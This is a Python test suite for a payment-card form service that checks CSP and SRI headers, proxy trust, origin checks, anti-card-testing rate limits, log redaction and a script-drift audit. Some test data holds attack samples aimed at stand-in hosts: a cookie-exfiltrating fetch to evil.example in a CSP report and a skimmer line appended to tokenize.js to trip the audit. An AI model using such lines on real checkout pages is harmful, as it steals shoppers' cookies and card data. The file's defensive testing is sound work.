"""Security controls over real HTTP: headers and CSP per view (snapshots), SRI and the script inventory,
proxy trust, cross-site refusal, rate limits and attempt caps, the challenge hook, CSP reports, the audit."""

import json
import os
import re
import shutil
from pathlib import Path

import pytest
import requests

from panless import create_app
from panless.merchant.assets import inventory
from panless.merchant.audit import run as run_audit
from panless.merchant.audit import sri
from panless.merchant.limits import set_challenge
from tests.support import UNLIMITED, LiveServer, providers_on
from tests.support.merchant import Shopper
from tests.support.sandbox import TIMEOUT

ROOT = Path(__file__).parent.parent
SNAPSHOTS = Path(__file__).parent / "snapshots" / "headers.json"
SHOP = "http://localhost:8003"
VOLATILE = {"Date", "Content-Length", "Set-Cookie", "Last-Modified", "Etag", "Vary", "Server",
            "X-Ratelimit-Limit", "X-Ratelimit-Remaining", "X-Ratelimit-Reset", "Retry-After", "Connection"}


@pytest.fixture(scope="module")
def app_server(sandbox_server):
    app = create_app({**providers_on(sandbox_server.url), **UNLIMITED, "ALLOWED_ORIGINS": SHOP})
    server = LiveServer(app).start()
    server.app = app
    yield server
    server.stop()


def normalised(response) -> dict:
    headers = {k.title(): v for k, v in response.headers.items() if k.title() not in VOLATILE}
    if "Content-Security-Policy" in headers:
        headers["Content-Security-Policy"] = re.sub(r"'nonce-[^']+'", "'nonce-*'",
                                                    headers["Content-Security-Policy"])
    return dict(sorted(headers.items()))


VIEWS = {
    "card form": ("GET", "/pay"),
    "frame": ("GET", f"/frame?parent={SHOP}"),
    "frame refused": ("GET", "/frame?parent=http://elsewhere.example"),
    "api": ("GET", "/api/cards"),
    "static embed": ("GET", "/static/js/embed/panless.js"),
    "csp report": ("POST", "/csp-report"),
}


def test_headers_per_view_match_the_snapshot(app_server, sandbox):
    seen = {name: normalised(requests.request(method, app_server.url + path, timeout=TIMEOUT, json={}))
            for name, (method, path) in VIEWS.items()}
    for name in seen:  # the port of the test sandbox is not part of the policy
        csp = seen[name].get("Content-Security-Policy", "")
        seen[name]["Content-Security-Policy"] = csp.replace(sandbox.url, "http://SANDBOX")
    if os.environ.get("PANLESS_UPDATE_SNAPSHOTS"):
        SNAPSHOTS.parent.mkdir(exist_ok=True)
        SNAPSHOTS.write_text(json.dumps(seen, indent=2) + "\n")
    assert seen == json.loads(SNAPSHOTS.read_text()), "headers changed: review, then PANLESS_UPDATE_SNAPSHOTS=1"


@pytest.mark.parametrize("path", ["/pay", f"/frame?parent={SHOP}"])
def test_page_policy_is_strict(app_server, path):
    r = requests.get(app_server.url + path, timeout=TIMEOUT)
    csp = r.headers["Content-Security-Policy"]
    assert "'unsafe-inline'" not in csp and "'unsafe-eval'" not in csp
    directives = dict(part.strip().split(" ", 1) for part in csp.split(";"))
    assert directives["default-src"] == "'none'" and directives["object-src"] == "'none'"
    assert directives["base-uri"] == "'none'" and directives["form-action"] == "'none'"
    assert directives["require-trusted-types-for"] == "'script'"
    nonce = re.search(r"'nonce-([^']+)'", directives["script-src"]).group(1)
    assert len(nonce) >= 22  # 128+ bits
    body_nonces = set(re.findall(r'nonce="([^"]+)"', r.text))
    assert body_nonces == {nonce}  # header and body agree, no empty nonce
    assert "style=" not in r.text and "<style" not in r.text and "onclick" not in r.text
    assert requests.get(app_server.url + path, timeout=TIMEOUT).headers["Content-Security-Policy"] != csp


def test_connect_src_lists_only_the_app_and_psp_origins(app_server, sandbox):
    csp = requests.get(app_server.url + "/pay", timeout=TIMEOUT).headers["Content-Security-Policy"]
    connect = re.search(r"connect-src ([^;]+)", csp).group(1).split()
    assert connect == ["'self'", sandbox.url, "http://127.0.0.1:8002"]  # and the relay (Ecart Pay, Verifone)


def test_every_asset_carries_a_matching_sri_hash(app_server):
    page = requests.get(app_server.url + "/pay", timeout=TIMEOUT).text
    imports = json.loads(re.search(r'<script type="importmap"[^>]*>(.*?)</script>', page, re.S).group(1))
    declared = dict(imports["integrity"])
    for tag in re.findall(r"<(?:script|link)[^>]+>", page):
        src = re.search(r'(?:src|href)="(/static/[^"]+)"', tag)
        if src:
            integrity = re.search(r'integrity="([^"]+)"', tag)
            assert integrity, f"{src.group(1)} has no integrity attribute"
            assert declared.setdefault(src.group(1), integrity.group(1)) == integrity.group(1), src.group(1)
    # Every module the page can load (lazy French included) and its stylesheets, and nothing else.
    assert sorted(declared) == ["/static/css/form.css", "/static/css/page.css", "/static/js/card.js",
                                "/static/js/form.js", "/static/js/i18n-fr.js", "/static/js/page.js",
                                "/static/js/tokenize.js"]
    for path, digest in declared.items():
        assert digest.startswith("sha384-")
        assert sri(requests.get(app_server.url + path, timeout=TIMEOUT).content) == digest, path


def test_served_files_match_the_committed_inventory(app_server):
    committed = json.loads((ROOT / "docs" / "script-inventory.json").read_text())
    for entry in committed["assets"]:
        served = requests.get(app_server.url + entry["path"], timeout=TIMEOUT).content
        assert sri(served) == entry["sha384"], f"{entry['path']} changed: run `panless inventory` once authorized"
        assert entry["purpose"]
    assert committed == inventory(str(ROOT / "static"))


def test_inventory_detects_a_change(tmp_path):
    static = tmp_path / "static"
    shutil.copytree(ROOT / "static", static)
    before = inventory(str(static))["assets"]
    (static / "js" / "form.js").write_text("/* changed */\n", encoding="utf-8")
    from panless.merchant.assets import hashes

    hashes.cache_clear()
    after = inventory(str(static))["assets"]
    changed = [a["path"] for a, b in zip(before, after, strict=True) if a["sha384"] != b["sha384"]]
    hashes.cache_clear()
    assert changed == ["/static/js/form.js"]


# -- proxies -----------------------------------------------------------------------------------------------

SPOOF = {"X-Forwarded-For": "203.0.113.9", "X-Forwarded-Proto": "https", "X-Forwarded-Host": "evil.example"}


def test_spoofed_forwarded_headers_change_nothing(app_server):
    plain = requests.get(app_server.url + "/pay", timeout=TIMEOUT)
    spoofed = requests.get(app_server.url + "/pay", headers=SPOOF, timeout=TIMEOUT, allow_redirects=False)
    assert spoofed.status_code == 200 and "Strict-Transport-Security" not in spoofed.headers
    assert "upgrade-insecure-requests" not in spoofed.headers["Content-Security-Policy"]
    assert normalised(plain).keys() == normalised(spoofed).keys()


def test_trusted_proxy_hop_is_honoured(sandbox_server):
    app = create_app({**providers_on(sandbox_server.url), "PROXY_COUNT": 1, "FORCE_HTTPS": True,
                      "SECRET_KEY": "a-test-secret-of-enough-length-0123456789"})
    server = LiveServer(app).start()
    try:
        r = requests.get(server.url + "/pay", headers={"X-Forwarded-Proto": "https"}, timeout=TIMEOUT,
                         allow_redirects=False)
        assert r.status_code == 200 and "max-age" in r.headers["Strict-Transport-Security"]
        plain = requests.get(server.url + "/pay", timeout=TIMEOUT, allow_redirects=False)
        assert plain.status_code in (301, 302) and plain.headers["Location"].startswith("https://")
    finally:
        server.stop()


# -- cross-site requests ------------------------------------------------------------------------------------

@pytest.mark.parametrize("origin,allowed", [("http://evil.example", False), (SHOP, True), (None, True)])
def test_state_changing_calls_check_the_origin(app_server, sandbox, origin, allowed):
    shopper = Shopper(app_server.url)
    headers = {"Origin": origin} if origin else {}
    r = shopper.call("POST", "/api/sessions", json={}, headers=headers)
    assert (r.status_code == 201) is allowed
    if not allowed:
        assert r.status_code == 403 and r.json()["error"]["code"] == "cross_site_request"


def test_own_origin_is_allowed(app_server, sandbox):
    r = Shopper(app_server.url).call("POST", "/api/sessions", json={}, headers={"Origin": app_server.url})
    assert r.status_code == 201


def test_session_cookie_is_samesite_and_httponly(app_server):
    cookie = requests.get(app_server.url + "/pay", timeout=TIMEOUT).headers["Set-Cookie"]
    assert "HttpOnly" in cookie and "SameSite=Lax" in cookie


# -- anti-card-testing ----------------------------------------------------------------------------------------

@pytest.fixture
def limited(sandbox_server, sandbox):
    def start(**config):
        app = create_app({**providers_on(sandbox_server.url), "RATELIMIT_SESSIONS": "3/minute",
                          "RATELIMIT_FINALIZE": "4/minute", **config})
        server = LiveServer(app).start()
        servers.append(server)
        server.app = app
        return server

    servers = []
    yield start
    for server in servers:
        server.stop()


def test_session_creation_is_limited_per_address(limited):
    server = limited()
    statuses = [Shopper(server.url).call("POST", "/api/sessions", json={}).status_code for _ in range(5)]
    assert statuses == [201, 201, 201, 429, 429]
    r = Shopper(server.url).call("POST", "/api/sessions", json={})
    assert r.json()["error"]["code"] == "rate_limited" and int(r.headers["Retry-After"]) > 0


def test_rotating_x_forwarded_for_does_not_bypass(limited):
    server = limited()
    shopper = Shopper(server.url)
    statuses = [shopper.call("POST", "/api/sessions", json={}, headers={"X-Forwarded-For": f"198.51.100.{i}"}
                             ).status_code for i in range(5)]
    assert statuses.count(429) == 2


def test_limits_per_customer_behind_a_trusted_proxy(limited):
    server = limited(PROXY_COUNT=1)
    shopper = Shopper(server.url)
    # Each call from another address (the proxy says so, and it is trusted), all from one customer.
    statuses = [shopper.call("POST", "/api/sessions", json={}, headers={"X-Forwarded-For": f"198.51.100.{i}"}
                             ).status_code for i in range(5)]
    assert statuses == [201, 201, 201, 429, 429]
    other = Shopper(server.url)  # another customer, from yet another address, is not held back
    assert other.call("POST", "/api/sessions", json={}, headers={"X-Forwarded-For": "198.51.100.99"}).status_code == 201


def test_failed_attempts_per_session_are_capped(limited):
    server = limited(RATELIMIT_FINALIZE="100/minute")
    shopper = Shopper(server.url)
    session = shopper.session()
    codes = [shopper.call("POST", f"/api/sessions/{session['id']}/finalize", json={"result": "errorCode=02625"})
             for _ in range(6)]
    assert [c.status_code for c in codes] == [422] * 5 + [429]
    assert codes[-1].json()["error"]["code"] == "too_many_attempts" and codes[-1].headers["Retry-After"]


def test_challenge_required_after_repeated_failures(limited):
    server = limited(RATELIMIT_FINALIZE="100/minute", RATELIMIT_SESSIONS="100/minute", CHALLENGE_AFTER=2,
                     PROXY_COUNT=1)
    set_challenge(server.app, lambda answer, customer: answer == "human")
    tester = {"X-Forwarded-For": "198.51.100.7"}
    shopper = Shopper(server.url)
    for _ in range(2):
        session = shopper.call("POST", "/api/sessions", json={}, headers=tester).json()
        shopper.call("POST", f"/api/sessions/{session['id']}/finalize", json={"result": "errorCode=02625"},
                     headers=tester)
    blocked = shopper.call("POST", "/api/sessions", json={}, headers=tester)
    assert blocked.status_code == 403 and blocked.json()["error"]["code"] == "challenge_required"
    wrong = shopper.call("POST", "/api/sessions", json={}, headers={**tester, "X-Panless-Challenge": "robot"})
    assert wrong.status_code == 403
    solved = shopper.call("POST", "/api/sessions", json={}, headers={**tester, "X-Panless-Challenge": "human"})
    assert solved.status_code == 201
    # A fresh customer (a new cookie) from the same address is challenged too; another address is not.
    assert Shopper(server.url).call("POST", "/api/sessions", json={}, headers=tester).status_code == 403
    other = {"X-Forwarded-For": "198.51.100.8"}
    assert Shopper(server.url).call("POST", "/api/sessions", json={}, headers=other).status_code == 201


# -- tripwire and logs ----------------------------------------------------------------------------------------

def test_tripwire_counts_and_logs_without_the_value(app_server, caplog):
    before = app_server.app.extensions["panless_counters"]["pan_detected"]
    shopper = Shopper(app_server.url)
    with caplog.at_level("WARNING"):
        r = shopper.call("POST", "/api/sessions", json={"x": "4970 1071 1111 1119"})
    assert r.status_code == 400 and r.json()["error"]["code"] == "pan_detected"
    assert any("pan_detected" in m for m in caplog.messages)
    assert not any("1119" in m for m in caplog.messages)
    assert app_server.app.extensions["panless_counters"]["pan_detected"] == before + 1


def test_log_redaction_covers_every_logger(caplog):
    import logging

    from panless.core.redaction import install_log_redaction

    install_log_redaction()
    with caplog.at_level("INFO"):
        logging.getLogger("some.library").info("card %s cvc=%s", "4970107111111119", "123")
        logging.getLogger("werkzeug").info('"POST /x?cardNumber=4970-1071-1111-1119 HTTP/1.1"')
    text = "\n".join(caplog.messages)
    assert "4970107111111119" not in text and "1111-1119" not in text and "cvc=123" not in text
    assert "[PAN]" in text


def test_log_redaction_covers_tracebacks(caplog):
    import logging

    from panless.core.redaction import install_log_redaction

    install_log_redaction()
    with caplog.at_level("INFO"):
        try:
            raise ValueError("card 4970107111111119 refused")
        except ValueError:
            logging.getLogger("some.library").exception("while saving")
    assert "Traceback" in caplog.text and "ValueError: card [PAN] refused" in caplog.text
    assert "4970107111111119" not in caplog.text


# -- CSP reports ------------------------------------------------------------------------------------------------

def test_csp_reports_are_counted_without_personal_data(app_server):
    report = {"csp-report": {
        "document-uri": f"{app_server.url}/pay?customer_token=secret&email=jody@example.com",
        "violated-directive": "script-src-elem", "effective-directive": "script-src-elem",
        "blocked-uri": "https://evil.example/steal.js?card=4970107111111119",
        "script-sample": "fetch('https://evil.example/?'+document.cookie)",
        "source-file": "https://evil.example/x.js", "original-policy": "default-src 'none'"}}
    r = requests.post(app_server.url + "/csp-report", data=json.dumps(report), timeout=TIMEOUT,
                      headers={"Content-Type": "application/csp-report"})
    assert r.status_code == 204
    reporting_api = [{"type": "csp-violation", "body": {"documentURL": f"{app_server.url}/frame?parent=x",
                                                        "effectiveDirective": "connect-src",
                                                        "blockedURL": "http://attacker.example:9/steal"}}]
    requests.post(app_server.url + "/csp-report", json=reporting_api, timeout=TIMEOUT,
                  headers={"Content-Type": "application/reports+json"})
    summary = requests.get(app_server.url + "/csp-report", timeout=TIMEOUT)
    text = summary.text
    assert summary.json()["total"] >= 2
    kept = {(r["directive"], r["blocked"], r["document"]) for r in summary.json()["reports"]}
    assert ("script-src-elem", "https://evil.example", "/pay") in kept
    assert ("connect-src", "http://attacker.example:9", "/frame") in kept
    for private in ("secret", "jody", "cookie", "4970", "steal.js", "customer_token"):
        assert private not in text


@pytest.mark.parametrize("body", [b"", b"not json", b"[1, 2, 3]", b'{"csp-report": "x"}', b"{" * 1000,
                                  b'{"csp-report": {"blocked-uri": "http://[", "document-uri": "http://["}}'])
def test_csp_report_endpoint_survives_junk(app_server, body):
    assert requests.post(app_server.url + "/csp-report", data=body, timeout=TIMEOUT).status_code == 204


# -- the audit ----------------------------------------------------------------------------------------------------

def test_audit_passes_against_the_app_and_its_own_baseline(app_server):
    passed, report, snapshot = run_audit(app_server.url + "/pay", SHOP)
    assert passed, report
    assert "[frame]" in report and "/static/js/frame.js" in report
    again, report, _ = run_audit(app_server.url + "/pay", SHOP, snapshot)
    assert again and "No drift" in report, report


def test_audit_fails_after_a_script_changes(sandbox_server, tmp_path):
    static = tmp_path / "static"
    shutil.copytree(ROOT / "static", static)
    app = create_app({**providers_on(sandbox_server.url), "ALLOWED_ORIGINS": SHOP, "STATIC_DIR": str(static)})
    server = LiveServer(app).start()
    try:
        passed, report, baseline = run_audit(server.url + "/pay", SHOP)
        assert passed, report
        tampered = static / "js" / "tokenize.js"
        tampered.write_text(tampered.read_text() + "\n// skimmer: fetch('https://evil.example', {body})\n")
        passed, report, _ = run_audit(server.url + "/pay", SHOP, baseline)
        assert not passed
        assert "/static/js/tokenize.js does not match its SRI hash" in report
        assert "DRIFT: [card form] script /static/js/tokenize.js changed" in report
    finally:
        server.stop()


def test_audit_flags_a_weak_policy():
    from panless.merchant.audit import parse_csp, policy_problems

    weak = parse_csp("default-src 'self'; script-src 'self' 'unsafe-inline' https:; object-src *")
    problems = policy_problems(weak, None)
    assert any("unsafe-inline" in p for p in problems) and any("object-src" in p for p in problems)
    assert any("Trusted Types" in p for p in problems) and any("frame-ancestors is missing" in p for p in problems)


def test_audit_cli_exit_codes(app_server, tmp_path):
    import subprocess
    import sys

    baseline = tmp_path / "baseline.json"
    ok = subprocess.run([sys.executable, "-m", "panless.cli", "audit", app_server.url + "/pay", "--parent", SHOP,
                         "--write-baseline", str(baseline)], capture_output=True, text=True, timeout=60)
    assert ok.returncode == 0, ok.stdout + ok.stderr
    assert "Result: PASS" in ok.stdout and baseline.exists()
    data = json.loads(baseline.read_text())
    data["pages"]["card form"]["assets"]["/static/js/page.js"] = "sha384-old"
    baseline.write_text(json.dumps(data))
    drifted = subprocess.run([sys.executable, "-m", "panless.cli", "audit", app_server.url + "/pay", "--parent", SHOP,
                              "--baseline", str(baseline)], capture_output=True, text=True, timeout=60)
    assert drifted.returncode == 1 and "DRIFT" in drifted.stdout and "Result: FAIL" in drifted.stdout
    down = subprocess.run([sys.executable, "-m", "panless.cli", "audit", "http://127.0.0.1:9/pay"],
                          capture_output=True, text=True, timeout=60)
    assert down.returncode == 2
    # Without --parent, the frame is audited for the first configured checkout origin, however it is written.
    env = {**os.environ, "PANLESS_ALLOWED_ORIGINS": json.dumps([SHOP])}
    from_env = subprocess.run([sys.executable, "-m", "panless.cli", "audit", app_server.url + "/pay"],
                              capture_output=True, text=True, timeout=60, env=env)
    assert from_env.returncode == 0 and "[frame]" in from_env.stdout, from_env.stdout + from_env.stderr


@pytest.mark.parametrize("config", [
    {"MANGOPAY": {"BASE_URL": "https://api.sandbox.mangopay.com/v2.01/"}},
    {"STAX": {"BASE_URL": "https://apiprod.fattlabs.com"}},
    {"FORCE_HTTPS": True},
])
def test_the_published_demo_secret_is_refused_outside_the_demo(config):
    from panless.merchant.config import ConfigError

    with pytest.raises(ConfigError, match="PANLESS_SECRET_KEY"):
        create_app(config)
    real = {name: {**section, "API_KEY": "a-real-psp-key"} for name, section in config.items() if name != "FORCE_HTTPS"}
    assert create_app({**config, **real, "SECRET_KEY": "a-real-secret-0123456789abcdef"})


@pytest.mark.parametrize("psp, base_url", [("MANGOPAY", "https://api.sandbox.mangopay.com/v2.01/"),
                                           ("STAX", "https://apiprod.fattlabs.com")])
def test_published_demo_psp_credentials_are_refused_outside_the_demo(psp, base_url):
    from panless.merchant.config import ConfigError

    with pytest.raises(ConfigError, match=f"PANLESS_{psp}__API_KEY"):
        create_app({psp: {"BASE_URL": base_url}, "SECRET_KEY": "a-real-secret-0123456789abcdef"})
